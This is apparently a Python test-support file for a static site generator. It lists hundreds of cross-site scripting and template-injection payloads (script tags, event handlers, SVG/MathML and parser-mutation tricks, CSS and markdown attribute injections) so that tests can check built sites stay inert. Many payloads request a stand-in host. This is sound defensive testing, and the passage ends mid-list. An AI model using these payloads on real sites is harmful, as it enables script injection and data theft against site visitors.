"""Payloads: texts that try to run a script, or to make a request, from every place of a site.

One form stands on each line of the texts below. In a form, control characters are written as
their pictures (␊ a new line, ␀ a null byte), and these words are filled in for each payload:

    RUN      a call that tells the payload's number: `__ran(12)`
    HOST     another host, of the payload's own: `p12.payload.invalid`
    ADDRESS  in a context for links: an address in disguise
    PICTURE, FILM, SOUND, WORDS, FILE   files that are there, so that nothing else is wrong

Payloads stand in *cases*: articles that can be built, alone or together with others.
Read by the tests and by `tools/try_payloads.py`; writes nothing but a site folder.
"""

import base64
import json
import re
import struct
import zlib
from collections.abc import Iterable, Iterator, Mapping
from functools import cache
from itertools import count
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote

from renda.diagnostics import Diagnostic, has_errors
from renda.options import BuildOptions
from renda.planning import plan
from tests.support import NOW, PROJECT, build_site, write_site

FILES = {
    "PICTURE": "/wenjian/p.png",
    "FILM": "/wenjian/p.mp4",
    "SOUND": "/wenjian/p.mp3",
    "WORDS": "/wenjian/p.vtt",
    "FILE": "/wenjian/p.pdf",
}
#: Stands for a single character that no line of a text can hold or show.
_PICTURES = {0x2400 + code: code for code in range(0x20)} | {0x2421: 0x7F}
#: Articles in one column; a feed holds at most 200.
_SHELF = 150


class Payload(NamedTuple):
    """A text with its number in it; `family` is what it is about, `place` where it goes."""

    number: int
    family: str
    place: str
    text: str


class Case(NamedTuple):
    """Source files that are built, or refused, together; `file` is the article among them."""

    file: str
    sources: Mapping[str, str | bytes]
    payloads: tuple[Payload, ...]


# --- forms of bodies -----------------------------------------------------------------------------

SCRIPTS = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<ScRiPt >RUN</sCrIpT >
<script␊>RUN</script␊>
<script/x>RUN</script/x>
<script␉type=text/javascript>RUN</script>
<script type=module>RUN</script>
<script type="text/vbscript">RUN</script>
<script language=javascript>RUN</script>
<script src=//HOST/x.js></script>
<script src="https://HOST/x.js" async defer></script>
<script src="data:text/javascript,RUN"></script>
<script src=data:;base64,BASE64></script>
<script>RUN
<script>RUN//
<scr<script>ipt>RUN</scr</script>ipt>
<scr<!-- -->ipt>RUN</script>
<<script>RUN//<</script>
<script>alert(NUMBER)</script>
<script>window.__mark=NUMBER</script>
<script>top.__mark=NUMBER</script>
<script>fetch("//HOST/")</script>
<script>new Image().src="//HOST/"</script>
<script>navigator.sendBeacon("//HOST/")</script>
<script>location="//HOST/"</script>
<script>open("//HOST/")</script>
<script>import("//HOST/x.js")</script>
<script><!--␊RUN␊--></script>
<script>//<![CDATA[␊RUN␊//]]></script>
<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>
<xhtml:script>RUN</xhtml:script>
<script nomodule>RUN</script>
<script type=importmap>{"imports":{"x":"//HOST/x.js"}}</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//HOST/"]}]}</script>
<s␀cript>RUN</s␀cript>
<script␀>RUN</script>
<script␌>RUN</script>
␂<script>RUN</script>␃
</p><script>RUN</script><p>
</div></div></article></main><script>RUN</script>
<div markdown="1"><script>RUN</script></div>
<div><p><script>RUN</script></p></div>
甲<script>RUN</script>乙<script>RUN</script>丙
**<script>RUN</script>**
> <script>RUN</script>
- <script>RUN</script>
1. 甲␊    <script>RUN</script>
# <script>RUN</script>
<ScRiPt>RUN</script␉␊ bar>
<script>`${RUN}`</script>
"""

HANDLERS = """
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img src=x onerror=`RUN`>
<IMG SRC=x OnErRoR=RUN>
<img/src/onerror=RUN>
<img/src="x"/onerror="RUN">
<img src=x␊onerror=RUN>
<img src=x␉onerror=RUN>
<img src=x␌onerror=RUN>
<img src=x␍onerror=RUN>
<img src=x␋onerror=RUN>
<img src=x␀onerror=RUN>
<img src=x onerror␀=RUN>
<img src=x on␀error=RUN>
<img src=x onerror =␊RUN>
<img src=x onerror=&#95;&#95;ran(NUMBER)>
<img src=x onerror=&#x5f&#x5fran&lpar;NUMBER&rpar;>
<img src=x onerror="&#0000095;_ran(NUMBER)">
<img src=x onerror="\\u005f_ran(NUMBER)">
<img src=x onerror=eval(atob("BASE64"))>
<img src=x onerror=alert(NUMBER)>
<img src=x onerror=alert`NUMBER`>
<img src=x onerror=confirm(NUMBER)>
<img src=x onerror=prompt(NUMBER)>
<img src=x onerror=__mark=NUMBER>
<img src=x onerror=location='//HOST/'>
<img src=x onerror=RUN//
<img src=x onerror=RUN
<img src=x onerror=RUN <p>甲</p>
<img src=x:x onerror=RUN>
<img src onerror=RUN>
<img srcset=x onerror=RUN>
<img src=PICTURE onload=RUN>
<img src=PICTURE alt=甲 onload=RUN>
<img \"\"\"><img src=x onerror=RUN>">
<img src="x` `<img src=x onerror=RUN>"` `>
<img src='x' title='>' onerror=RUN>
<img src=x alt="a>b" onerror=RUN>
<img src=x alt='"' onerror=RUN alt='"'>
<img src=x onerror=RUN onerror=1>
<img src=x /onerror=RUN/>
<img =" src=x onerror=RUN>
<img <img src=x onerror=RUN>
<a"<img src=x onerror=RUN>
<1<img src=x onerror=RUN>
<image src=x onerror=RUN>
<image href=x onerror=RUN>
<body onload=RUN>
</p><body onpageshow=RUN>
<html onmouseover=RUN>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button onclick=RUN autofocus onfocus=RUN>甲</button>
<keygen autofocus onfocus=RUN>
<details open ontoggle=RUN>甲</details>
<details ontoggle=RUN><summary>甲</summary>乙</details>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<video controls src=FILM onloadstart=RUN></video>
<audio src=x onerror=RUN></audio>
<audio controls autoplay onplay=RUN src=SOUND></audio>
<track kind=captions default src=WORDS onerror=RUN>
<marquee onstart=RUN>甲</marquee>
<marquee loop=1 width=0 onfinish=RUN>甲</marquee>
<style onload=RUN></style>
<link rel=stylesheet href=x onerror=RUN>
<iframe onload=RUN></iframe>
<object data=x onerror=RUN></object>
<embed src=x onload=RUN>
<frameset onload=RUN></frameset>
<svg onload=RUN></svg>
<svg/onload=RUN>
<svg id=x onfocusin=RUN tabindex=0></svg>
<math onmouseover=RUN>甲</math>
<dialog open onclose=RUN>甲</dialog>
<div popover id=x onbeforetoggle=RUN>甲</div><button popovertarget=x>乙</button>
<x onclick=RUN>甲</x>
<x contenteditable onblur=RUN autofocus>甲</x>
<x-y onpointerrawupdate=RUN>甲</x-y>
<p style="animation:x 1s" onanimationstart=RUN>甲</p>
<p style="transition:all 1s" ontransitionend=RUN tabindex=0>甲</p>
<p style="content-visibility:auto" oncontentvisibilityautostatechange=RUN>甲</p>
<p accesskey=x onclick=RUN>甲</p>
<p onscrollend=RUN style=overflow:scroll;height:1px>甲<br>乙</p>
<p/onclick=RUN>甲</p>
<p onclick="RUN" onclick='RUN' ONCLICK=RUN>甲</p>
<p title="甲" onclick=RUN title="乙">甲</p>
<p title='甲"' onclick=RUN>甲</p>
<p title=甲>乙" onclick=RUN>丙</p>
<P ONCLICK=RUN>甲</P>
</p onclick=RUN>甲<p>
<p ｏｎｃｌｉｃｋ=RUN>甲</p>
<p on\u200bclick=RUN>甲</p>
<p xmlns:x="y" x:onclick=RUN>甲</p>
<p on=RUN onx=RUN>甲</p>
"""

#: Elements that an article may well hold, each with a handler of every kind.
_HARMLESS = "a p div span b td th li h2 ol ul table blockquote code pre del sup ruby figure abbr"
_EVENTS = "onmouseover onclick onfocus"

FRAMES = """
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe src=//HOST/></iframe>
<iframe/src=//HOST/>
<IFRAME SRC=j&#97;vascript:RUN></IFRAME>
<iframe src=PICTURE></iframe>
<frameset><frame src="javascript:RUN"></frameset>
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,SCRIPT64"></object>
<object data=//HOST/ type=text/html></object>
<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:RUN></object>
<embed src="javascript:RUN">
<embed src=//HOST/x.swf allowscriptaccess=always>
<embed code="data:image/svg+xml;base64,SVG64" type="image/svg+xml">
<applet code=javascript:RUN></applet>
<portal src=//HOST/></portal>
<fencedframe src=//HOST/></fencedframe>
<base href=//HOST/><img src=x>
<base href="javascript:RUN//"><a href=#>甲</a>
<base target=_blank>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=//HOST/">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=data:text/html,<script>RUN</script>">
<meta http-equiv=Set-Cookie content="a=b">
<meta charset=utf-7>
<meta http-equiv=content-type content="text/html; charset=utf-7">
<link rel=stylesheet href=//HOST/x.css>
<link rel=stylesheet href="data:text/css,@import'//HOST/';">
<link rel=preload as=image href=//HOST/x.png>
<link rel=prefetch href=//HOST/>
<link rel=modulepreload href=//HOST/x.js>
<link rel=icon href=//HOST/x.png>
<link rel=manifest href=//HOST/x.json>
<link rel=import href=//HOST/x.html>
<link rel=dns-prefetch href=//HOST/>
<form action="javascript:RUN"><input type=submit></form>
<form action=//HOST/><input name=x autofocus><button>甲</button></form>
<form id=x></form><button form=x formaction=javascript:RUN>甲</button>
<form><button formaction="javascript:RUN">甲</button></form>
<form><input type=image src=//HOST/x.png formaction=javascript:RUN></form>
<isindex action=javascript:RUN type=submit>
<button type=submit formaction=//HOST/>甲</button>
<input type=image src=//HOST/x.png>
<video src=//HOST/x.mp4 autoplay></video>
<video poster=//HOST/x.png></video>
<video poster=javascript:RUN></video>
<video><track default src=//HOST/x.vtt></video>
<audio src=//HOST/x.mp3 autoplay></audio>
<audio><source src=//HOST/x.mp3></audio>
<picture><source srcset=//HOST/x.png><img src=PICTURE alt=甲></picture>
<img srcset="//HOST/x.png 1x" src=PICTURE alt=甲>
<img src=PICTURE srcset=//HOST/x.png alt=甲>
<img lowsrc=//HOST/x.png dynsrc=javascript:RUN src=PICTURE alt=甲>
<img src=PICTURE usemap=#x alt=甲><map name=x><area shape=default href=javascript:RUN></map>
<img src=PICTURE alt=甲 longdesc=javascript:RUN>
<img src=PICTURE alt=甲 attributionsrc=//HOST/>
<table background=//HOST/x.png><tr><td background=javascript:RUN>甲</td></tr></table>
<body background=//HOST/x.png>
<bgsound src=//HOST/x.mp3>
<layer src=//HOST/></layer>
<a href=FILE ping=//HOST/>甲</a>
<a href=FILE attributionsrc=//HOST/>甲</a>
<a href=javascript:RUN target=_blank rel=opener>甲</a>
<a folder="javascript:RUN" href="javascript:RUN">甲</a>
<q cite=javascript:RUN>甲</q>
<blockquote cite=javascript:RUN>甲</blockquote>
<del cite=javascript:RUN>甲</del>
<div is=x-y src=//HOST/ itemscope itemtype=//HOST/>甲</div>
<div><template shadowrootmode=open><script>RUN</script></template></div>
<comment><img src=x onerror=RUN></comment>
<slot onslotchange=RUN>甲</slot>
<canvas onmouseover=RUN></canvas>
<menuitem icon=javascript:RUN onclick=RUN>
<xml src=//HOST/x.xml id=x></xml>
<!DOCTYPE html><html manifest=//HOST/x.appcache>
"""

SVG = """
<svg><script>RUN</script></svg>
<svg><script>&#95;&#95;ran(NUMBER)</script></svg>
<svg><script href="data:text/javascript,RUN" /></svg>
<svg><script xlink:href=//HOST/x.js></script></svg>
<svg><a href=javascript:RUN><text y=20>甲</text></a></svg>
<svg><a xlink:href="javascript:RUN"><rect width=99 height=99 /></a></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>甲</text></a></svg>
<svg><a><set attributeName=href to=javascript:RUN /><text y=20>甲</text></a></svg>
<svg><a><animate attributeName=href from=javascript:RUN to=1 /><text y=20>甲</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to=RUN /></svg>
<svg><set onbegin=RUN attributeName=x></svg>
<svg><animatetransform onbegin=RUN attributeName=transform></svg>
<svg><image href=x onerror=RUN /></svg>
<svg><image href=//HOST/x.png /></svg>
<svg><feImage href=//HOST/x.png /></svg>
<svg><use href="data:image/svg+xml;base64,SVG64#x" /></svg>
<svg><use xlink:href=//HOST/x.svg#x /></svg>
<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><style>@import '//HOST/x.css';</style></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><style>&lt;img src=x onerror=RUN&gt;</style></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><handler type=text/javascript>RUN</handler></svg>
<svg><discard onbegin=RUN></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
<svg version=1.1 xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load ev:handler=RUN></svg>
<svg><text onclick=RUN>甲</text></svg>
<svg></p><img src=x onerror=RUN></svg>
<math href=javascript:RUN>甲</math>
<math><a xlink:href=javascript:RUN>甲</a></math>
<math><mtext href=javascript:RUN>甲</mtext></math>
<math><maction actiontype="statusline#x" xlink:href="javascript:RUN">甲</maction></math>
<math><mi//xlink:href="data:x,<script>RUN</script>">甲</mi></math>
<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>
<math><script>RUN</script></math>
<math><mglyph src=//HOST/x.png></math>
"""

#: Texts that are harmless as they are parsed first, and not when they are parsed again.
MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<noscript><style></noscript><img src=x onerror=RUN>
<noscript><img src=x onerror=RUN></noscript>
<template><p title="</template><img src=x onerror=RUN>"></template>
<template><script>RUN</script></template>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><style><a title="</style><img src=x onerror=RUN>"></style></svg>
<svg><p><style><g title="</style><img src=x onerror=RUN>">
<svg><p></p><style><!--</style><img src=x onerror=RUN>--></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=RUN></style>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></mglyph></form></mtext></math></form>
<math><mi><table><tr><td><mglyph><svg><mtext><style><path id="</style><img src=x onerror=RUN>">
<math><p></p><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=RUN&gt;">
<svg><annotation-xml><foreignobject><style><!--</style><p title="--&gt;&lt;img src=x onerror=RUN&gt;">
<svg><desc><svg><image><a><desc><img title="a&gt;" src=x onerror=RUN></desc></a></image></svg></desc></svg>
<table><tr><td><table><img src=x onerror=RUN></table></td></tr></table>
<table><script>RUN</script><tr><td>甲</td></tr></table>
<table><a href=javascript:RUN><tr><td>甲</td></tr></a></table>
<table><caption><table><img title="</caption><script>RUN</script>"></table></caption></table>
<select><template><style><!--</template></select><img src=x onerror=RUN>--></style>
<select><option><style></option></select><img src=x onerror=RUN></style>
<select><iframe></select><img src=x onerror=RUN>
<option><style></option></select><img src=x onerror=RUN></style>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<xmp><img src=x onerror=RUN></xmp>
<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<listing><img src=x onerror=RUN></listing>
<plaintext><img src=x onerror=RUN>
<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>
<textarea></textarea><img src=x onerror=RUN></textarea>
<title><p title="</title><img src=x onerror=RUN>"></title>
<title>&lt;/title&gt;&lt;img src=x onerror=RUN&gt;</title>
<style><p title="</style><img src=x onerror=RUN>"></style>
<style><style/><img src=x onerror=RUN>
<style><!--</style><img src=x onerror=RUN>--></style>
<script><p title="</script><img src=x onerror=RUN>"></script>
<pre><code>&lt;img src=x onerror=RUN&gt;</code></pre>
<pre>␊<img src=x onerror=RUN></pre>
<p title="&lt;img src=x onerror=RUN&gt;">甲</p>
<p title="&quot;&gt;&lt;img src=x onerror=RUN&gt;">甲</p>
<p title="--><img src=x onerror=RUN>">甲</p>
<p title="]]><img src=x onerror=RUN>">甲</p>
<p title="`` onmouseover=RUN">甲</p>
<p title='a" onmouseover=RUN b="'>甲</p>
<p lang='"><img src=x onerror=RUN>' dir='"><svg/onload=RUN>'>甲</p>
<td colspan='2"><img src=x onerror=RUN>'>甲</td>
<ol start='1"><img src=x onerror=RUN>'><li value='1"><svg/onload=RUN>'>甲</li></ol>
<p id='"><img src=x onerror=RUN>'>甲</p>
<p class='"><img src=x onerror=RUN>'>甲</p>
<a href='FILE"><img src=x onerror=RUN>'>甲</a>
<a href="FILE?&quot;><img src=x onerror=RUN>">甲</a>
<a href="https://HOST/&quot; onmouseover=&quot;RUN">甲</a>
<a href='https://HOST/" onmouseover="RUN'>甲</a>
<a href=https://HOST/"onmouseover="RUN">甲</a>
<a href="https://HOST/`onmouseover=RUN`">甲</a>
<a href="#&quot; onmouseover=&quot;RUN">甲</a>
<a href="#<img src=x onerror=RUN>">甲</a>
<a href="x"><a href="javascript:RUN">甲</a></a>
<a <a href=javascript:RUN>甲</a>
<b><p><b><a href=javascript:RUN><p>甲</b></a>
<ruby><rt><rt><style></rt></ruby><img src=x onerror=RUN></style>
<mglyph><style></math><img src=x onerror=RUN></style></mglyph>
<malignmark></malignmark><math><mo><malignmark><style></mo><img src=x onerror=RUN>
<frameset><frame></frameset><img src=x onerror=RUN>
<dl><dt><dl><dd><style></dl><img src=x onerror=RUN>
<h1><h2><svg><h3></svg><img src=x onerror=RUN></h2></h1>
"""

COMMENTS = """
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<!-- -- ><img src=x onerror=RUN>-->
<!-- --><script>RUN</script>
<!-- <!-- --><img src=x onerror=RUN>-->
<!----!><img src=x onerror=RUN><!---->
<!-- ␊␊<img src=x onerror=RUN>
<!-- 甲
--><img src=x onerror=RUN>
<!--[if IE]><script>RUN</script><![endif]-->
<!--[if !IE]><!--><script>RUN</script><!--<![endif]-->
<![if !IE]><script>RUN</script><![endif]>
<![CDATA[<img src=x onerror=RUN>]]>
<![CDATA[>]]><img src=x onerror=RUN>
<![CDATA[]]]]><img src=x onerror=RUN><![CDATA[>]]>
<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
]]><script>RUN</script>
甲 ]]> 乙 ]]&gt; <img src=x onerror=RUN>
`]]><script>RUN</script>`
]]></content:encoded><script>RUN</script>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=RUN>">]>&y;
<!ELEMENT x><img src=x onerror=RUN>
<!x><img src=x onerror=RUN>
<!><img src=x onerror=RUN>
<!<img src=x onerror=RUN>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">RUN</script>
<?xml-stylesheet href="javascript:RUN"?>
<?php echo "<script>RUN</script>" ?>
<?><img src=x onerror=RUN>
<? <img src=x onerror=RUN> ?>
</ ><img src=x onerror=RUN>
<//><img src=x onerror=RUN>
</><img src=x onerror=RUN>
<%><img src=x onerror=RUN>
<%= "<img src=x onerror=RUN>" %>
<\\><img src=x onerror=RUN>
< img src=x onerror=RUN>
<␊img src=x onerror=RUN>
<␀img src=x onerror=RUN>
<img␀ src=x onerror=RUN>
<&#105;mg src=x onerror=RUN>
＜img src=x onerror=RUN＞
‹img src=x onerror=RUN›
"""

STYLES = """
<style>@import '//HOST/x.css';</style>
<style>body{background:url(//HOST/x.png)}</style>
<style>*{x:expression(RUN)}</style>
<style>@font-face{font-family:x;src:url(//HOST/x.woff)}*{font-family:x}</style>
<style>li{list-style:url("javascript:RUN")}</style>
<STYLE TYPE="text/javascript">RUN</STYLE>
<p style="background:url(//HOST/x.png)">甲</p>
<p style="width:expression(RUN)">甲</p>
<p style="xss:expr/*x*/ession(RUN)">甲</p>
<p style="background:url(javascript:RUN)">甲</p>
<p style="-moz-binding:url(//HOST/x.xml#x)">甲</p>
<p style="behavior:url(//HOST/x.htc)">甲</p>
<p style="position:fixed;inset:0;z-index:9">甲</p>
<p style="\\62 ackground:u\\72l(//HOST/x.png)">甲</p>
<p style='content:"</p><img src=x onerror=RUN>"'>甲</p>
<p style=filter:url(//HOST/x.svg#x)>甲</p>
<ul style="list-style-image:url(//HOST/x.png)"><li>甲</li></ul>
<p style="cursor:url(//HOST/x.cur),auto;mask:url(//HOST/x.svg)">甲</p>
<td style="text-align:center;background:url(//HOST/x.png)">甲</td>
<p STYLE=background-image:image-set("//HOST/x.png"1x)>甲</p>
"""

ATTRIBUTE_LISTS = """
# 甲 {onclick=RUN}
# 甲 {onclick="RUN" style="background:url(//HOST/x.png)"}
## 甲 {#x onmouseover=RUN .y}
## 甲 {: onmouseover='RUN' }
甲␊{: onclick=RUN }
甲␊{: onclick="RUN" style="background:url(//HOST/x.png)" }
甲␊{: ONCLICK=RUN tabindex=0 onfocus=RUN autofocus=1 }
**甲**{: onclick=RUN }
*甲*{onclick=RUN}
`甲`{: onclick=RUN }
[甲](FILE){onclick=RUN}
[甲](FILE){: href=javascript:RUN }
[甲](FILE){: href="javascript:RUN" target=_blank ping="//HOST/" }
[甲](FILE){: style="position:fixed;inset:0" onmouseover=RUN }
![甲](PICTURE){: onload=RUN }
![甲](PICTURE){: src=x onerror=RUN }
![甲](PICTURE){: src="javascript:RUN" srcset="//HOST/x.png" }
![甲](PICTURE){: alt='" onerror="RUN' }
<https://HOST/>{: onclick=RUN }
- 甲␊    {: onclick=RUN }
- 甲 {: onclick=RUN }
> 甲␊{: onclick=RUN cite=javascript:RUN }
| 甲 {: onclick=RUN } | 乙 |␊|---|---|␊| 丙 {: onclick=RUN } | 丁 |
甲␊:   乙␊    {: onclick=RUN }
甲[^1] {: onclick=RUN }␊␊[^1]: 注 {: onclick=RUN }
```{.x onclick=RUN}␊甲␊```
```{ .python #x onclick="RUN" style="background:url(//HOST/x.png)" }␊甲␊```
# 甲 {data-x=1 onclick=RUN"}
# 甲 {title='"><img src=x onerror=RUN>'}
# 甲 {title="&quot;&gt;&lt;img src=x onerror=RUN&gt;"}
# 甲 {x"><img src=x onerror=RUN>}
# 甲 {xmlns=javascript:RUN}
# 甲 {srcdoc="<script>RUN</script>" src=//HOST/}
# 甲 {on␀click=RUN}
# 甲 {lang='"><img src=x onerror=RUN>' dir='" onclick="RUN'}
# 甲 {class='"><img src=x onerror=RUN>'}
甲␊{: tag=script text=RUN }
甲␊{: .rd-menu #main role=alert contenteditable=true draggable=true ondrag=RUN }
![甲](PICTURE){: width='1" onload="RUN' height=1 loading='" onload="RUN' }
| 甲 |␊|---|␊| 乙 {: colspan='2" onclick="RUN' style="background:url(//HOST/x.png)" } |
"""

#: Names that would take the place of what scripts of the page look up.
CLOBBERING = """
# 甲 {#document}
# 甲 {#location name=location}
# 甲 {#__ran}
# 甲 {#__proto__}
# 甲 {#main}
# 甲 {#"><img src=x onerror=RUN>}
# 甲 {id='" onclick="RUN'}
# "><img src=x onerror=RUN>
# javascript:RUN
# ' onmouseover='RUN
# <a id=__ran name=alert>甲</a>
<a id=defaultView name=document>甲</a>
<a id=x><a id=x name=y href="javascript:RUN">甲</a></a>
<img name=body src=PICTURE alt=甲>
<img name=cookie id=getElementById src=PICTURE alt=甲>
<form id=x><input name=attributes><input name=parentNode></form>
<form name=self><output name=top>甲</output></form>
<iframe name=alert srcdoc=甲></iframe>
<object id=__ran data=x></object>
<p id=main>甲</p><p id=rd-main>乙</p>
<h2 id="constructor">甲</h2>
<table id=toString><tr><td>甲</td></tr></table>
<li id=hasOwnProperty>甲</li>
[甲](#"onmouseover="RUN)
[甲](#javascript:RUN)
[甲](#%22%3E%3Cimg%20src=x%20onerror=RUN%3E)
"""

ENTITIES = """
&lt;script&gt;RUN&lt;/script&gt;
&lt;img src=x onerror=RUN&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;script&#x3E;RUN&#X3C;/script&#x3e;
&#60script&#62RUN&#60/script&#62
&#0000060;img src=x onerror=RUN&#0000062;
&LT;img src=x onerror=RUN&GT;
&lt img src=x onerror=RUN&gt
&ltimg src=x onerror=RUN&gt
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
&amp;#60;img src=x onerror=RUN&amp;#62;
&#38;lt;img src=x onerror=RUN&#38;gt;
&#2;wzxhzdk:0&#3;<script>RUN</script>
␂wzxhzdk:0␃<img src=x onerror=RUN>
&#2;amp&#3;lt;script&#2;amp&#3;gt;RUN
klzzwxh:0000<img src=x onerror=RUN>klzzwxh:0001
%3Cscript%3ERUN%3C/script%3E
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cscript\\x3eRUN\\x3c/script\\x3e
+ADw-script+AD4-RUN+ADw-/script+AD4-
\\<script\\>RUN\\</script\\>
\\<img src=x onerror=RUN\\>
\\\\<img src=x onerror=RUN>
`<script>RUN</script>`
``<img src=x onerror=RUN>` ``
`甲</code><img src=x onerror=RUN>`
`甲<img src=x onerror=RUN>
&nbsp;<&nbsp;script>RUN</script>
&#1;<script>RUN</script>
&#127;&#128;&#xFFFE;<img src=x onerror=RUN>
&#xD800;&#x110000;&#99999999999;<img src=x onerror=RUN>
&bogus;<img src=x onerror=RUN>&;
¼script¾RUN¼/script¾
﹤script﹥RUN﹤/script﹥
〈script〉RUN〈/script〉
<ſcript>RUN</ſcript>
<ımg src=x onerror=RUN>
<İmg src=x onerror=RUN>
<script>RUN</script>
"""

TOKENS = """
{{ 7*7 }} {{ "<script>RUN</script>"|safe }}
{{ "".__class__.__mro__[1].__subclasses__() }}<img src=x onerror=RUN>
{{ body }} {{ page.title|safe }} {{ site }} {{ RUN }}
{% raw %}<script>RUN</script>{% endraw %}
{% autoescape false %}<img src=x onerror=RUN>{% endautoescape %}
{% include "base.html" %} {% import "os" as x %} RUN
{# 甲 #} {#- RUN -#}
{% endblock %}</main><script>RUN</script>
${7*7} #{7*7} *{7*7} @{7*7} ~{RUN}
<%= RUN %> <? RUN ?> [[${RUN}]]
{{constructor.constructor('RUN')()}}
{{{RUN}}} {{&RUN}} {{>RUN}}
`{{ "<script>RUN</script>"|safe }}`
[甲]({{ RUN }}) ![甲]({% RUN %})
{0} {0.__class__} %s %(x)s %n {column} {slug} $RUN \\1 \\g<0> <img src=x onerror=RUN>
# {{ RUN }} {% RUN %}
"""

TITLES = """
[甲](FILE "x\\" onmouseover=\\"RUN")
[甲](FILE "x" onmouseover="RUN")
[甲](FILE 'x" onmouseover="RUN')
[甲](FILE "x'><img src=x onerror=RUN>")
[甲](FILE '"><img src=x onerror=RUN>')
[甲](FILE "&quot;&gt;&lt;img src=x onerror=RUN&gt;")
[甲](FILE "<script>RUN</script>")
[甲](<FILE> "x" onclick="RUN)
[甲](FILE"onmouseover="RUN)
[甲](FILE?"onmouseover="RUN)
[甲](FILE?'onmouseover='RUN)
[甲](FILE?`onmouseover=`RUN)
[甲](FILE?<img/src/onerror=RUN>)
[甲](<FILE?"><img src=x onerror=RUN>>)
[甲](https://HOST/"onmouseover="RUN)
[甲](https://HOST/%22onmouseover=%22RUN)
[甲](https://HOST/&quot;onmouseover=&quot;RUN)
[甲](https://HOST/'><script>RUN</script>)
[甲" onmouseover="RUN](FILE)
[<img src=x onerror=RUN>](FILE)
[甲][r]␊␊[r]: FILE "x" onmouseover="RUN"
[甲][r]␊␊[r]: FILE 'x" onmouseover="RUN'
[甲][r]␊␊[r]: FILE (x" onmouseover="RUN)
[甲][r]␊␊[r]: <FILE"onmouseover="RUN>
[甲]["><img src=x onerror=RUN>]␊␊["><img src=x onerror=RUN>]: FILE
![甲" onerror="RUN](PICTURE)
![甲" onload="RUN](PICTURE)
![甲'><img src=x onerror=RUN>](PICTURE)
!["><img src=x onerror=RUN>](PICTURE)
!["><script>RUN</script>](PICTURE "甲")
![&quot; onload=&quot;RUN](PICTURE)
![&#34; onload=&#34;RUN](PICTURE)
![甲](PICTURE "x\\" onload=\\"RUN")
![甲](PICTURE 'x" onload="RUN')
![甲](PICTURE"onload="RUN)
![甲](PICTURE?"onload="RUN)
![甲][r]␊␊[r]: PICTURE 'x" onload="RUN'
!["onload="RUN][r]␊␊[r]: PICTURE
![`" onload="RUN`](PICTURE)
![**" onload="RUN**](PICTURE)
[![甲" onload="RUN](PICTURE)](FILE "x\\" onclick=\\"RUN")
[!["](PICTURE "onmouseover="RUN)](FILE)
[a]("onerror="RUN)
<https://HOST/"onmouseover="RUN>
<https://HOST/'onmouseover='RUN>
<https://HOST/><img src=x onerror=RUN>>
<a@b.cn"onmouseover="RUN>
<mailto:a@b.cn?subject="onmouseover="RUN>
https://HOST/"onmouseover="RUN"
https://HOST/'onmouseover='RUN'
https://HOST/&quot;onmouseover=RUN
https://HOST/<img/src/onerror=RUN>
https://HOST/?a=1&lt;script&gt;RUN
https://"onmouseover=RUN@HOST/
http://[HOST]/"onmouseover=RUN
~~<img src=x onerror=RUN>~~
[甲~~](javascript:RUN)~~
**[甲**](javascript:RUN)
[*甲](FILE "*" onmouseover=RUN)
[甲](https://HOST/[乙](javascript:RUN))
[https://HOST/"onmouseover="RUN](FILE)
<a href="[甲](javascript:RUN)">乙</a>
<a href="![甲](x" onerror="RUN)">乙</a>
[甲](FILE "[乙](javascript:RUN)")
![<https://HOST/" onload="RUN>](PICTURE)
[甲]: javascript:RUN "x"␊␊[甲]
"""

CODE = """
```<img src=x onerror=RUN>␊甲␊```
```js onclick=RUN␊甲␊```
```"><script>RUN</script>␊甲␊```
```js" onmouseover="RUN␊甲␊```
```{lang="x" onclick=RUN}␊甲␊```
